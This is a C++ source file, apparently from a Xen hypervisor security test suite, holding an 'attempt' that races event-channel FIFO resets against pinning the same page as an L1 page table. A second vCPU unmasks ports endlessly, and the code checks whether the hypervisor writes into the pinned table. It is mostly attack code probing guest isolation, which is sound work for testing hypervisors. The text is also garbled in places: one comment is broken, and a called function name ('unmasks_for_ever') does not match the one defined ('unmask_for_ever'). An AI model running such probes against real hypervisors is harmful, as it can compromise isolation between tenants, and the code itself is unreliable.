// SPDX-License-Identifier: Apache-2.0
// An attempt by way of event words: pages that the hypervisor writes to until the domain leaves the
// FIFO layout, and that are page tables from then on.
#include "attempt.hpp"

#include <xenpp/abi/event_channel.hpp>
#include <xenpp/base/atomic.hpp>

#include <array>

namespace attack {

namespace {

constexpr std::uint32_t ports = 64; ///< of the first page of words, all closed

template <class Op>
std::int64_t event_channel(abi::evtchn_op cmd, Op op) noexcept {
    return hypercall(abi::hypercall::event_channel_op, cmd, &op);
}

/// The ports of domain 0 that the first ones here are connected to: a reset cuts them off.
struct connections {
    std::array<std::uint32_t, 8> far{};

    connections() noexcept {
        for (std::uint32_t port = 1; port != far.size(); ++port) {
            abi::evtchn_status s{};
            s.dom = abi::domid_self;
            s.port = port;
            hypercall(abi::hypercall::event_channel_op, abi::evtchn_op::status, &s);
            far[port] = s.status == abi::evtchnstat_interdomain ? s.u.interdomain.port : 0;
        }
    }

    /// Each gets the lowest free port, which is the one that it had.
    void restore() const noexcept {
        for (auto const port : far) {
            if (port != 0) {
                abi::evtchn_bind_interdomain b{};
                b.remote_port = port;
                event_channel(abi::evtchn_op::bind_interdomain, b);
            }
        }
    }
};

/// A table without a present entry, whose upper halves are words that wait to be unmasked.
constexpr std::uint64_t absent =
    std::uint64_t{1U << abi::evtchn_fifo_pending | 1U << abi::evtchn_fifo_masked} << 32;

bool is_untouched(std::uint64_t const* table) noexcept {
    for (std::uint32_t n = 0; n != ports / 2; ++n) {
        if (xenpp::atomic_load(table[n]) != absent) {
            return false;
        }
    }
    return true;
}

/// Makes a page that of event words, takes it away, and makes it an L1, again and again.
outcome change_uses(std::uint64_t* page, mfn control) noexcept {
    for (unsigned i = 0; i != 30'000; ++i) {
        abi::evtchn_init_control init{};
        init.control_gfn = control.raw();
        if (event_channel(abi::evtchn_op::init_control, init) != 0 ||
            event_channel(abi::evtchn_op::expand_array,
                          abi::evtchn_expand_array{mfn_of(page).raw()}) != 0 ||
            event_channel(abi::evtchn_op::reset, abi::evtchn_reset{abi::domid_self}) != 0) {
            return {};
        }
        for (std::uint32_t n = 0; n != ports / 2; ++n) {
            page[n] = absent;
        }
        if (set_writable(page, false) != 0 ||
            mmuext(abi::mmuext_cmd::pin_l1_table, mfn_of(page)) != 0) {
            return {};
        }
        for (unsigned looks = 0; looks != 20; ++looks) {
            if (!is_untouched(page)) {
                return {}; // a table has changed that nobody may write to
            }
        }
        if (mmuext(abi::mmuext_cmd::unpin_table, mfn_of(page)) != 0 ||
            set_writable(page, true) != 0) {
            return {};
        }
        for (std::uint32_t n = 0; n != ports / 2; ++n) {
            page[n] = 0;
        }
    }
    return harmless_if(true);
}

/// While vCPU 1 unmasks ports for ever.
outcome words_of_a_table() noexcept {
    connections const before;
    auto* const page = new_page();
    auto* const control = new_page();
    if (start_vcpu(1, unmasks_for_ever) != 0) {
        return {};
    }
    auto const result = change_uses(page, mfn_of(control));
    before.restore();
    return result;
}

constexpr attempt list[] = {
    {"event_words_in_a_page_table", words_of_a_table},
};

} // namespace

std::span<attempt const> last_event_attempts() noexcept {
    return list;
}

void unmask_for_ever() noexcept {
    for (;;) {
        for (std::uint32_t port = 1; port < ports; port += 2) {
            event_channel(abi::evtchn_op::unmask, abi::evtchn_unmask{port});
        }
    }
}

} // namespace attack
